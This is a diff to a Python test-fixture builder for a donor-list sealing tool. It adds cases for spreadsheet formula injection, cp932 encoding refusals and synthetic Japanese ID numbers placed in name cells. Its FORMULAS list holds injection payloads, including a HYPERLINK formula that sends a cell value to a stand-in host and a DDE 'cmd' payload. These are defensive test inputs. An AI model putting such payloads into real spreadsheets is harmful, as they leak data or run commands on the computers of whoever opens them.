@@ -32,7 +32,7 @@ import openpyxl
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))       # tests/, for hostile.harness
 
 from donorguard.cli import ops as files  # noqa: E402
-from donorguard.core.manifest import FIELDS  # noqa: E402
+from donorguard.core import manifest as mf  # noqa: E402
 from donorguard.core.seal import seals_for  # noqa: E402
 from donorguard.store import (
     keys,  # noqa: E402
@@ -62,6 +62,7 @@ class Case:
     check_kinds: frozenset = frozenset()   # finding kinds `check --json` must report
     stderr_has: str = ""               # regex the one stderr line of `check` must match (ja or en; path removed)
     folder: Path = field(default=None)   # the case's own folder (copy it whole)
+    says: dict = field(default_factory=dict)   # command -> regex its stdout + stderr must match (paths removed)
 
 
 def _codes(check, seal, repair, export) -> dict:
@@ -76,6 +77,13 @@ UNSEALED_UNFIT = _codes(2, 1, 2, 2)             # readable, but sealing must ref
 SEALED_CLEAN = _codes(0, 2, 0, 0)               # sealed and as sealed
 SEALED_BLOCKED = _codes(1, 2, 1, 1)             # sealed, broken, repair cannot make it clean
 SEALED_REPAIRABLE = _codes(1, 2, 0, 1)          # sealed, broken, repair puts it right
+SEALED_UNSENDABLE = _codes(0, 2, 0, 1)          # sealed and as sealed, but export must refuse what it holds
+NAME_COL, ADDRESS_COL = "B", "G"                # 氏名 and 住所 in synth's layout
+FORMULAS = ['=HYPERLINK("http://example.invalid/?n="&H4,"詳細")', "@SUM(1+1)", "+1+2", "\t=1+1",
+            "-2+3+cmd|' /C calc'!A0", "＝1+1"]
+NEAR_FORMULAS = ["a=b", "(=1+1)", "1+1番地", "'=1", "メール a@example.invalid", "1-2-3"]
+UNENCODABLE = ["𠮷田\u3000花子", "見本県😀見本市", "葛\U000E0100城\u3000一郎", "見本県\u00a0試験町", "Café 見本"]
+CHANGED = ["見本県〜見本市", "1−2−3 見本町", "¢ビル"]
 
 
 def people(seed: int = SEED, n: int = N_PEOPLE, leading_zero_share: float = 0.2):
@@ -83,11 +91,30 @@ def people(seed: int = SEED, n: int = N_PEOPLE, leading_zero_share: float = 0.2)
 
 
 def ids() -> set:
-    """Every 12-digit ID number any case (or the crash trials) was made from."""
+    """Every 12-digit ID number any case (or the crash trials) was made from, and those seeded into names."""
     out = set(people()["個人番号"])
     out |= set(people(seed=SEED + 1)["個人番号"])
     out |= set(people(seed=SEED + 2, leading_zero_share=0.0)["個人番号"])
-    return out
+    return out | set(seeded_ids())
+
+
+def seeded_ids(n: int = 6) -> list:
+    """Valid My Numbers that belong to nobody in the lists, to be typed into name and address cells."""
+    from stdnum.jp import in_
+    rng = random.Random(SEED + 9)
+    bodies = ["9" + "".join(str(rng.randrange(10)) for _ in range(10)) for _ in range(n)]
+    return [b + in_.calc_check_digit(b) for b in bodies]
+
+
+def with_seeded_ids(df):
+    """Names and addresses with a My Number typed into them: plain, grouped 4-4-4, and in full-width digits."""
+    fw = str.maketrans("0123456789", "０１２３４５６７８９")
+    df = df.copy()
+    for i, v in enumerate(seeded_ids()):
+        forms = (v, f"{v[:4]} {v[4:8]} {v[8:]}", v.translate(fw))
+        col = "氏名" if i % 2 == 0 else "住所"
+        df.loc[i * 4, col] = f"{df.loc[i * 4, col]} {forms[i % 3]}"
+    return df
 
 
 # -- zip surgery ------------------------------------------------------------------------------
@@ -596,7 +623,7 @@ def _build(folder: Path, main_key: Path, other_key: Path) -> list:
     write_seals(book, dict(enumerate(twin_book.table.seals.tolist())), None, p)
     p = case("manifest_edited", "list.xlsx", SEALED_BLOCKED, "the manifest's sealed_by changed by hand",
              stderr_has=MANIFEST_SAYS)
-    by = f'<t>sealed_by</t></is></c><c r="B{FIELDS.index("sealed_by") + 1}" t="inlineStr"><is><t>'.encode()
+    by = f'<t>sealed_by</t></is></c><c r="B{mf.FIELDS.index("sealed_by") + 1}" t="inlineStr"><is><t>'.encode()
     rezip(sealed, p, replace={MANIFEST_PART: part(sealed, MANIFEST_PART).replace(by, by + b"x", 1)})
     assert part(p, MANIFEST_PART) != part(sealed, MANIFEST_PART)
     p = case("manifest_rows_edited", "list.xlsx", SEALED_BLOCKED,
@@ -635,6 +662,54 @@ def _build(folder: Path, main_key: Path, other_key: Path) -> list:
              "a sealed list whose row 2 holds one 2 MiB text cell (beyond Excel's 32,767 characters)")
     rng = random.Random(7)
     add_row_at(sealed, p, 2, {"A": inline("A2", "".join(chr(0x4E00 + rng.randrange(20000)) for _ in range(700_000)))})
+
+    # ---- what must not leave the office (issue 15) -----------------------------------------------
+    def cells_of(texts, cols):
+        return {f"{cols[i % len(cols)]}{rows[i * 3 + 1]}": inline(f"{cols[i % len(cols)]}{rows[i * 3 + 1]}", v)
+                for i, v in enumerate(texts)}
+    formula_cells = cells_of(FORMULAS, [NAME_COL, ADDRESS_COL])
+    p = case("formula_text_unsealed", "list.xlsx", UNSEALED_UNFIT,
+             "氏名 and 住所 cells holding =HYPERLINK(…&H4…), @SUM, +1+2, a tab before =1+1, -2+3+cmd|…, ＝1+1 as text",
+             says={"seal": r"(氏名|住所)が「= \+ - @」などの記号で始まり.*（行 \d"})
+    set_sheet_cells(base, p, formula_cells)
+    p = case("formula_text_sealed_before", "list.xlsx", SEALED_BLOCKED,
+             "the same list sealed by a version that let formula text through: the seals hold, check blocks",
+             check_kinds=frozenset({"formula"}), says={"export": r"Nothing was written"})
+    old_book = open_book(case_path(cases, "formula_text_unsealed"), rules)
+    m = mf.new(rules, keys.read(main_key), old_book.sheet, old_book.header_row, old_book.table.rows.tolist(),
+               mf.Stamp("2025-12-01T10:00:00+09:00", "staff"))
+    write_seals(old_book, dict(enumerate(seals_for(m, keys.read(main_key), rules, old_book.table.rows.tolist(),
+                                                   _canon(old_book, rules)))), m, p)
+    p = case("formula_typed_after_seal", "list.xlsx", SEALED_BLOCKED,
+             "after sealing, a 住所 cell retyped as =1+1 (text)", check_kinds=frozenset({"formula", "owner_changed"}))
+    set_sheet_cells(sealed, p, {f"{ADDRESS_COL}{rows[7]}": inline(f"{ADDRESS_COL}{rows[7]}", "=1+1")})
+    p = case("near_formula_text_sealed", "list.xlsx", SEALED_CLEAN,
+             "names and addresses with = + - @ inside, not first (a=b, 1+1番地, '=1, 1-2-3): fine, and exported")
+    set_sheet_cells(base, p, cells_of(NEAR_FORMULAS, [NAME_COL, ADDRESS_COL]))
+    _seal(p, main_key)
+    unencodable = cells_of(UNENCODABLE, [NAME_COL, ADDRESS_COL])
+    p = case("cp932_unencodable_unsealed", "list.xlsx", UNSEALED_FINE,
+             "𠮷, an emoji, an IVS, NBSP, accented Latin in names and addresses: sealed, with a notice",
+             says={"seal": r"お知らせ\n.*「𠮷」（U\+20BB7、行 \d+）.*cp932 ではそのまま書き出せません"
+                           r".*--encoding utf-8-sig"})
+    set_sheet_cells(base, p, unencodable)
+    p = case("cp932_unencodable_sealed", "list.xlsx", SEALED_UNSENDABLE,
+             "the same, sealed: check clean with notices, export in cp932 refused naming rows and characters",
+             says={"check": r'"notice": "encoding"',
+                   "export": r'Nothing was exported: 氏名: "𠮷" \(U\+20BB7, rows \d+\)'
+                             r".*cannot be written unchanged in cp932.*utf-8-sig"})
+    _seal(shutil.copyfile(case_path(cases, "cp932_unencodable_unsealed"), p), main_key)
+    p = case("cp932_round_trip_sealed", "list.xlsx", SEALED_UNSENDABLE,
+             "〜 U+301C, − U+2212, ¢ U+00A2: cp932 writes them, but reads back ～ － ￠; export refused",
+             says={"export": r'"〜" \(U\+301C, rows \d+; read back as "～" U\+FF5E\)'})
+    set_sheet_cells(base, p, cells_of(CHANGED, [ADDRESS_COL]))
+    _seal(p, main_key)
+    p = case("ids_in_names_sealed", "list.xlsx", SEALED_CLEAN,
+             "My Numbers typed into names and addresses (plain, 4-4-4, full-width): sealed, exported as typed")
+    _seal(_write(with_seeded_ids(df), p), main_key)
+    p = case("ids_in_names_sorted", "list.xlsx", SEALED_REPAIRABLE,
+             "the same list after the Kosai sort: messages name the owners, whose names hold My Numbers")
+    synth.kosai_mistake(case_path(cases, "ids_in_names_sealed"), p)
     return cases
 
 
